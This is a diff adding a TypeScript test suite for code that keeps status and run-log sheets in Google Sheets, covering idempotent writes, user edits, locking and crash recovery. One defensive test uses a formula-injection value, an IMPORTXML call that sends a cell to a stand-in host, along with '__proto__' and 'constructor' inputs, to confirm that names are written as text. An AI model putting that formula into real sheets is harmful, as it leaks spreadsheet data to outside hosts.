@@ -1,0 +1,262 @@
+import type { LogsOrder } from '../../../src/reports/logs/write-logs';
+import { FakeClock } from '../../fakes/clock';
+import { EmulatedSheets } from '../../fakes/sheets/emulated-sheets';
+import { SheetModel } from '../../fakes/sheets/sheet-model';
+import { booksOf, HOUR, loggedRun, NOW, statusRow } from './file';
+
+const STATUS = 'Refresh status';
+const LOG = 'Run log';
+const LOG_ID = 14;
+
+const ORDER = {
+  status: [statusRow('r1'), statusRow('r2', { name: 'Retention' })],
+  newRuns: [loggedRun(2), loggedRun(1, { report: 'Retention' })],
+} satisfies Partial<LogsOrder>;
+
+function kept(order: Partial<LogsOrder> = ORDER) {
+  const sheet = new SheetModel();
+  const clock = new FakeClock(NOW);
+  const write = booksOf(sheet, clock);
+  expect(write(order)).toEqual({
+    written: true,
+    logged: (order.newRuns ?? []).map(({ runId }) => runId),
+    problems: [],
+  });
+  const rows = (title: string) => sheet.shown(title).slice(2);
+  const column = (title: string, index: number) => rows(title).map((row) => row[index]);
+  return { sheet, clock, write, rows, column };
+}
+
+describe('the books of a file', () => {
+  it('are two sheets of their own, with a line above the headers that says which', () => {
+    const { sheet, column } = kept();
+    expect(sheet.sheets.map(({ title }) => title)).toEqual(['Sheet1', STATUS, LOG]);
+    expect(sheet.shown(STATUS)[0]![0]).toBe('Refresh status · times in Europe/Berlin');
+    expect(sheet.shown(LOG)[0]).toEqual([
+      'Run log · the last 500 runs, newest first · times in Europe/Berlin',
+    ]);
+    expect(column(STATUS, 0)).toEqual(['Report r1', 'Retention']);
+    expect(column(LOG, 3)).toEqual(['Retention', 'Daily revenue']);
+    expect(sheet.tab(LOG).rows[2]![0]!.format).toBe('yyyy-mm-dd hh:mm');
+    expect(sheet.tab(STATUS).frozenRowCount).toBe(2);
+  });
+
+  it('ten equal writings change nothing, the line included, however late it is', () => {
+    const { sheet, clock, write } = kept();
+    const before = sheet.snapshot();
+    for (let nth = 0; nth < 10; nth++) {
+      clock.pass(HOUR);
+      write(ORDER);
+    }
+    expect(sheet.batches).toHaveLength(2);
+    expect(sheet.snapshot()).toEqual(before);
+  });
+
+  it('an equal writing reads the file once, and each sheet once', () => {
+    const { sheet, write } = kept();
+    sheet.reads.length = 0;
+    write(ORDER);
+    expect(sheet.reads).toHaveLength(3);
+  });
+
+  it('only what differs is written', () => {
+    const { sheet, write } = kept();
+    write({ status: [statusRow('r1', { rows: 121 }), ORDER.status[1]!], newRuns: [] });
+    expect(sheet.batches).toHaveLength(3);
+    const numbers = JSON.stringify(sheet.batches[2]).match(/numberValue|stringValue/g);
+    expect(numbers).toHaveLength(1);
+  });
+
+  it('a renamed and moved sheet is still theirs, and a deleted one is made again', () => {
+    const { sheet, write, column } = kept();
+    sheet.tab(STATUS).title = 'How it stands';
+    sheet.sheets.reverse();
+    write({ ...ORDER, status: [statusRow('r1', { name: 'Renamed' })] });
+    expect(column('How it stands', 0)).toEqual(['Renamed']);
+    sheet.sheets = sheet.sheets.filter(({ title }) => title !== LOG);
+    write({ ...ORDER, newRuns: [loggedRun(5)] });
+    expect(column(LOG, LOG_ID)).toEqual(['run5']);
+    sheet.sheets = sheet.sheets.filter(({ title }) => title !== LOG);
+    write({ ...ORDER, newRuns: [] });
+    expect(sheet.shown(LOG)[1]![0]).toBe('Started');
+  });
+
+  it('a tab of the user that is called the same stays his', () => {
+    const sheet = new SheetModel();
+    sheet.addTab(LOG, 7);
+    sheet.type(LOG, 0, 0, 'Marathon');
+    booksOf(sheet)(ORDER);
+    expect(sheet.shown(LOG)).toEqual([['Marathon']]);
+    expect(sheet.shown('Run log 2')[2]![LOG_ID]).toBe('run1');
+  });
+
+  it("the user's columns stay with their rows: beside the table, and between its columns", () => {
+    const { sheet, write } = kept();
+    sheet.type(LOG, 3, 16, 'asked support');
+    sheet.insert(LOG, 'COLUMNS', 4);
+    sheet.type(LOG, 3, 4, 'ticket 12');
+    sheet.type(STATUS, 3, 15, 'ask Bo');
+    write({ status: [statusRow('r0'), ...ORDER.status], newRuns: [loggedRun(0)] });
+    const log = sheet.shown(LOG);
+    expect([log[4]![3], log[4]![4], log[4]![17]]).toEqual(['Daily revenue', 'ticket 12', 'asked support']);
+    const status = sheet.shown(STATUS);
+    expect([status[4]![0], status[4]![15]]).toEqual(['Retention', 'ask Bo']);
+  });
+
+  it("rows of the user's in the table's columns are not taken away", () => {
+    const { sheet, write, rows } = kept();
+    sheet.type(STATUS, 4, 0, 'Reports of Bo: see the other file');
+    sheet.type(LOG, 4, 0, 'Until here checked by Bo');
+    write({ status: [statusRow('r3')], newRuns: [loggedRun(0)] });
+    expect(rows(STATUS).map(([name]) => name)).toEqual(['Report r3', 'Reports of Bo: see the other file']);
+    expect(rows(LOG)[3]).toEqual(['Until here checked by Bo']);
+    const batches = sheet.batches.length;
+    write({ status: [statusRow('r3')], newRuns: [loggedRun(0)] });
+    expect(sheet.batches).toHaveLength(batches);
+  });
+
+  it("a line of totals below the table stays a formula of the user's", () => {
+    const { sheet, write, rows } = kept();
+    sheet.type(STATUS, 4, 0, 'All');
+    sheet.type(STATUS, 4, 11, '=SUM(L3:L4)');
+    write({ ...ORDER, status: [statusRow('r1', { rows: 121 }), ORDER.status[1]!] });
+    expect(sheet.tab(STATUS).rows[4]![11]!.formula).toBe('=SUM(L3:L4)');
+    expect(rows(STATUS)[2]![11]).toBe(241);
+  });
+
+  it('a sorted sheet stays sorted, and new rows go below', () => {
+    const { sheet, write, column } = kept();
+    for (const title of [STATUS, LOG]) {
+      const { rows } = sheet.tab(title);
+      [rows[2], rows[3]] = [rows[3]!, rows[2]!];
+    }
+    write({ status: [...ORDER.status, statusRow('r3')], newRuns: [loggedRun(0)] });
+    expect(column(LOG, LOG_ID)).toEqual(['run2', 'run1', 'run0']);
+    expect(column(STATUS, 14)).toEqual(['r2', 'r1', 'r3']);
+  });
+
+  it('a log of 500 runs takes a 501st, and lets the oldest go', () => {
+    const { write, column } = kept({ newRuns: Array.from({ length: 500 }, (_, nth) => loggedRun(nth + 2)) });
+    write({ newRuns: [loggedRun(1)] });
+    const runs = column(LOG, LOG_ID);
+    expect([runs.length, runs[0], runs[499]]).toEqual([500, 'run1', 'run500']);
+  });
+
+  it('names are texts, whatever they look like', () => {
+    const name = '=IMPORTXML("https://x.test/"&A1,"//a")';
+    const { sheet, column } = kept({
+      status: [statusRow('r1', { name }), statusRow('__proto__', { name: '+1' })],
+      newRuns: [loggedRun(1, { report: name, runId: 'constructor' })],
+    });
+    expect(column(STATUS, 0)).toEqual([name, '+1']);
+    expect(column(LOG, 3)).toEqual([name]);
+    const written = JSON.stringify(sheet.batches);
+    expect(written.match(/formulaValue/g)).toHaveLength(1);
+    expect(written).toContain(JSON.stringify({ stringValue: name }));
+  });
+
+  it('one sheet that cannot be written is said, and the other one is written', () => {
+    const { sheet, write, column } = kept();
+    sheet.type(LOG, 1, 3, 'My report');
+    expect(write({ status: [statusRow('r9')], newRuns: [loggedRun(0)] })).toEqual({
+      written: true,
+      logged: [],
+      problems: [
+        expect.stringMatching(/^Sheet “Run log” could not be updated: the header “Report” is missing\./),
+      ],
+    });
+    expect(column(STATUS, 14)).toEqual(['r9']);
+    sheet.type(LOG, 1, 3, 'Report');
+    sheet.type(STATUS, 1, 0, 'Name');
+    const { logged, problems } = write({ newRuns: [loggedRun(0)] });
+    expect(logged).toEqual(['run0']);
+    expect(problems).toEqual([expect.stringContaining('Sheet “Refresh status” could not be updated')]);
+  });
+
+  it('what Google refuses is said with the name of the sheet', () => {
+    const sheet = new SheetModel();
+    sheet.beforeAndAfter = (batch) => {
+      if (batch === 0) throw new Error('You are trying to edit a protected cell or object.');
+    };
+    const { problems, logged } = booksOf(sheet)(ORDER);
+    expect(problems).toEqual([
+      'Refresh status: Google does not let whoever runs this change the sheet: it is protected, or the file is shared for viewing only. Nothing was written; the rows in the sheet are as they were. Ask the owner of the file to allow it (Data ▸ Protect sheets and ranges, or Share), then run again.',
+    ]);
+    expect(logged).toEqual(['run2', 'run1']);
+    expect(sheet.sheets.map(({ title }) => title)).toEqual(['Sheet1', LOG]);
+  });
+
+  it('nothing is written while another holds the lock', () => {
+    const sheet = new SheetModel();
+    const order = { ...ORDER };
+    expect(booksOf(sheet, new FakeClock(NOW), () => false)(order)).toEqual({
+      written: false,
+      logged: [],
+      problems: [],
+    });
+    expect(sheet.reads).toEqual([]);
+    expect(sheet.batches).toEqual([]);
+  });
+
+  it('killed before or after any write, the next writing makes it good', () => {
+    const whole = kept().sheet;
+    const values = (sheet: SheetModel) => [STATUS, LOG].map((title) => sheet.shown(title));
+    for (const [batch, done] of [0, 1].flatMap((nth) =>
+      [false, true].map((after) => [nth, after] as const),
+    )) {
+      const sheet = new SheetModel();
+      sheet.beforeAndAfter = (nth, isDone) => {
+        if (nth === batch && isDone === done) throw new Killed();
+      };
+      try {
+        booksOf(sheet)(ORDER);
+      } catch (error) {
+        if (!(error instanceof Killed)) throw error;
+      }
+      sheet.beforeAndAfter = () => {};
+      booksOf(sheet)(ORDER);
+      expect(values(sheet)).toEqual(values(whole));
+    }
+  });
+});
+
+class Killed extends Error {}
+
+describe('the status sheet, when no code runs any more', () => {
+  function opened(status: LogsOrder['status']) {
+    const sheets = new EmulatedSheets();
+    let now = NOW;
+    sheets.store.now = () => now;
+    booksOf(sheets)({ status });
+    return {
+      sheets,
+      saysAfter: (hours: number) => {
+        now = NOW + hours * HOUR;
+        return sheets.shown("'Refresh status'!D1:D1")[0]?.[0] ?? '';
+      },
+    };
+  }
+
+  it('says by itself for how many days nothing was checked', () => {
+    const { saysAfter } = opened([statusRow('r1'), statusRow('r2', { lastChecked: NOW - 30 * HOUR })]);
+    const said = [0, 23, 25, 46, 71].map(saysAfter);
+    const words = (days: number) =>
+      `Days without a check: ${days}. The numbers may be old: open Ad Reports ▸ Open.`;
+    expect(said).toEqual(['', '', words(1), words(2), words(3)]);
+  });
+
+  it('says nothing where no report refreshes itself', () => {
+    expect(opened([statusRow('r1', { nextRun: null })]).saysAfter(900)).toBe('');
+    expect(opened([]).saysAfter(900)).toBe('');
+  });
+
+  it('sees rows that came in above the first, and stays as the user has left it', () => {
+    const { sheets, saysAfter } = opened([statusRow('r1')]);
+    const later = { lastChecked: NOW + 70 * HOUR };
+    booksOf(sheets)({ status: [statusRow('r0', later), statusRow('r1')] });
+    expect(saysAfter(71)).toBe('');
+    sheets.type("'Refresh status'!D1", [['mine']]);
+    booksOf(sheets)({ status: [statusRow('r7', later)] });
+    expect(saysAfter(0)).toBe('mine');
+  });
+});
